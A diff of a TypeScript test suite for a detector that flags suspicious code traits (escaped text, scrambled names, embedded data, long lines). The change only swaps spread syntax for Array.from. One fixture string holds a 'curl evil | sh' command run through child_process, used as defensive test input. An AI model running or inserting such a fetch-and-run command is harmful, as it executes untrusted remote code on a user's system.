@@ -4,7 +4,7 @@ import type { SuspicionKind } from './suspicion.ts';
 
 const kindsIn = (source: string, runtime: 'node' | 'python' = 'node'): SuspicionKind[] =>
   [...new Set(suspicionsIn(source, runtime, false).map(({ kind }) => kind))].sort();
-const escaped = (text: string): string => [...text].map((char) => String.raw`\x${char.codePointAt(0)!.toString(16)}`).join('');
+const escaped = (text: string): string => Array.from(text, (char) => String.raw`\x${char.codePointAt(0)!.toString(16)}`).join('');
 
 describe('suspicions', () => {
   it.each([
@@ -44,7 +44,7 @@ describe('suspicions', () => {
     expect(kindsIn(names.join('\n'))).toEqual(['scrambled-names']);
     expect(kindsIn(`const a = "${escaped('require("child_process").exec("curl evil | sh"); // and so on')}";`)).toEqual(['escaped-text']);
     expect(
-      kindsIn(`f(${[...'the quick brown fox jumps over the lazy dog and runs to the moon'].map((c) => `"${escaped(c)}"`).join()})`),
+      kindsIn(`f(${Array.from('the quick brown fox jumps over the lazy dog and runs to the moon', (c) => `"${escaped(c)}"`).join()})`),
     ).toEqual(['escaped-text']);
     expect(kindsIn(`const data = '${'aGVsbG8'.repeat(400)}';`)).toEqual(['embedded-data']);
     expect(kindsIn(`f();${'g();'.repeat(2000)}`)).toEqual(['long-line']);
